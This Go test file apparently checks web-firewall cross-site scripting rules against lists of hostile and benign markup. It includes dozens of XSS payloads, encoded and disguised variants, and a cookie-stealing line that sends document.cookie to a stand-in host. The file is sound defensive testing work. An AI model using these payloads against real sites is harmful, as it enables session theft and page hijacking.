package confirm

import (
	"strings"
	"testing"
)

// hostileMarkup is what a browser runs or loads.
var hostileMarkup = []string{
	"<script>alert(1)</script>", "<script src=//x.example/a.js></script>", "<ScRiPt >alert`1`</sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
	"<iframe src=javascript:alert(1)>", "<body onload=\"x()\">", "<a href=\"javascript:alert(document.cookie)\">x</a>", "<a href=\"jav\tascript:alert(1)\">", "javascript:alert(1)",
	"<object data=x.swf>", "<embed src=x>", "<base href=//x.example/>", "<meta http-equiv=\"refresh\" content=\"0;url=//x\">", "<link rel=stylesheet href=//x.example>",
	"\" onmouseover=alert(1) x=\"", "' autofocus onfocus='alert(1)", "\"><script>x()</script>", "<details open ontoggle=confirm(1)>", "<math><a xlink:href=\"javascript:x()\">",
	"';alert(1)//", "\"-alert(1)-\"", "</script><script>f()</script>", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<div style=\"width:expression(alert(1))\">",
	"<x onclick=alert(1)>", "<form><button formaction=javascript:alert(1)>", "<input onfocus=alert(1) autofocus>", "eval(atob('YQ=='))", "document.location='//x.example/'+document.cookie",
	"<!ENTITY x SYSTEM 'file:///a'>", "<svg><animate onbegin=alert(1)>", "<iframe srcdoc='<b>'>", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)",
}

// honestMarkup is what people write, and programs send.
var honestMarkup = []string{
	"<p><img src=\"https://example.com/a.png\" alt=\"a\"></p>", "<b>bold</b> and <i>italic</i>", "<a href=\"https://example.com/?a=1&b=2\">link</a>", "<h1>News</h1><ul><li>one</li></ul>",
	"a < b and c > d", "<3", "if (a<b) return;", "the function fetch() loads a page", "import a from './a.js';\nexport default a;\n// the end of a module of some lines\n", "javascript:void(0);", "javascript:;",
	"Use alert() sparingly: it stops the page", "tables: <table><tr><td>1</td></tr></table>", "<span class=\"price\" style=\"color: red\">5</span>", "<!-- a comment -->", "<div id=\"a\" data-on=\"1\"></div>",
	"text/html,application/xhtml+xml;q=0.9,image/avif", "data:image/png;base64,iVBORw0KGgo=", "javascript:2.8.5", "<br/>line", "<blockquote>said on Monday = a day</blockquote>", "price is <b>on</b> = off",
}

func TestMarkupThatRuns(t *testing.T) {
	verdicts{rule: 941160, counts: hostileMarkup, denied: honestMarkup}.check(t)
	verdicts{rule: 941310, counts: []string{"\xbcscript\xbealert(1)", "\u00bcimg src=x\u00be"}, denied: []string{"\xbc\xbe", "5\u00bc inches"}}.check(t)
}

// An attack stays one in a sentence, in a document, and in the spellings that browsers undo.
func TestMarkupInDisguiseStillCounts(t *testing.T) {
	disguises := map[string]func(string) string{
		"sentence":  func(s string) string { return "Thank you for the parcel, " + s + " was in it." },
		"document":  func(s string) string { return "<p>Hello</p>\n" + s + "\n<p>Bye</p>" },
		"percent":   func(s string) string { return strings.NewReplacer("<", "%3C", ">", "%3e").Replace(s) },
		"reference": func(s string) string { return strings.NewReplacer("<", "&lt;", ">", "&#62;").Replace(s) },
		"capitals":  strings.ToUpper,
		"lines":     func(s string) string { return strings.ReplaceAll(s, " ", "\n") },
		"slashes":   func(s string) string { return strings.ReplaceAll(s, " ", "/") },
	}
	for _, text := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>"} {
		for name, disguise := range disguises {
			if reason, denied := Denied(Match{Rule: 941100, Text: disguise(text)}); denied {
				t.Errorf("%s: %q is denied: %s", name, disguise(text), reason)
			}
		}
	}
}

// A script of the page's own is no attack in a field that is declared as markup or code.
func TestADeclaredPageLoadsScriptsOfItsOwn(t *testing.T) {
	own := []string{
		`<script src="js/menu.js"></script>`, `<script src='./node_modules/a/index.mjs' type="module"></script>`, `<script type="text/javascript" src="a.min.js" defer>  </script>`, "<p>a</p>\n<SCRIPT ASYNC SRC=\"/js/B.js\"></SCRIPT>",
		`&lt;script src="js/menu.js"&gt;&lt;/script&gt;`,
	}
	for _, kind := range []string{"markup", "code"} {
		verdicts{rule: 941110, kind: kind, denied: own, counts: []string{
			`<script src="//h.example/a.js"></script>`, `<script src="https://h.example/a.js"></script>`, `<script src="/\h.example/a.js"></script>`, `<script src="a.js">alert(1)</script>`, `<script src="data:,alert(1)"></script>`,
			`<script src="a.js" onerror="alert(1)"></script>`, `<script src=a.js></script>`, `<script src="up/a.png"></script>`, `<script src="a.js"></script><script>alert(1)</script>`, `<script src="a.js" src="//h.example/a.js"></script>`,
			`<script src="a.js"`, `<script src="&#47;/h.example/a.js"></script>`, `<script async></script>`, `<script/src="a.js"></script>`, `<scr<script src="a.js"></script>ipt>alert(1)</script>`,
		}}.check(t)
	}
	verdicts{rule: 941110, counts: own}.check(t)
	verdicts{rule: 941110, kind: "text", counts: own}.check(t)
}
